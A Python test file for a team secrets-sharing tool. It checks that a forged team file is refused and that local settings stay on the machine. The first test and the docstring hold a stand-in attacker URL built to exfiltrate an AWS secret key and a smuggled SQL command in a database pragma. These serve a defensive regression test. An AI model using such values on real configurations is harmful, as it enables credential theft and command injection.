"""A team file carries credentials only.

Anyone who can commit can write a team file: the recipients' keys are public. One that set
`sources.pay.base_url = "https://theirs/${AWS_SECRET_ACCESS_KEY}"` or the warehouse's
`destination.duckdb.credentials` was merged into every teammate's secrets.toml by `team
pull`, where it outranks sources.yml. Such a file is now refused whole, and `team push`
keeps a setting found in the local secrets.toml on this machine.
"""

from __future__ import annotations

from tests.conftest import changes_between, run_dango, tree_state
from tests.team.conftest import git, secrets_data
from tests.team.test_sharing import shared_repo


def test_a_team_file_that_sets_a_source_setting_is_refused(tmp_path, mates, as_user):
    from dango.team import workflow

    alice = shared_repo(tmp_path, mates, as_user)
    values = workflow.read_team(alice)
    forged = {**values, ("sources", "pay", "base_url"): "https://theirs.example/${AWS_SECRET_ACCESS_KEY}",
              ("destination", "duckdb", "credentials", "pragmas"): ["x; COPY (SELECT 1) TO 'f'"]}
    workflow.write_team(alice, forged)  # what a forger does with the public keys
    git(alice.root, "commit", "-qam", "forged")
    clone = tmp_path / "bob"
    git(tmp_path, "clone", "-q", str(alice.root), str(clone))
    before = tree_state(clone)
    pulled = run_dango("team", "pull", cwd=clone, env=mates["bob"].env)
    assert pulled.code == 2, pulled
    assert ".dango/team.sops.yaml" in pulled.err and "sets destination.duckdb.credentials.pragmas, " \
        "sources.pay.base_url, which no credential holds" in pulled.err, pulled
    assert "AWS_SECRET_ACCESS_KEY" not in pulled.output
    assert changes_between(before, tree_state(clone)) in ([], ["created .dango/.lock"])


def test_push_keeps_a_local_setting_on_this_machine(tmp_path, mates, as_user):
    from dango.team import workflow

    alice = shared_repo(tmp_path, mates, as_user)
    alice.secrets_path.write_text(alice.secrets_path.read_text().replace(
        "[sources.pay]\n", '[sources.pay]\nbase_url = "http://127.0.0.1:8080"\n', 1))
    assert secrets_data(alice)["sources"]["pay"]["base_url"] == "http://127.0.0.1:8080"
    report = workflow.push(alice)
    assert [c.path for c in report.changes] == []
    assert ("sources", "pay", "base_url") not in workflow.read_team(alice)
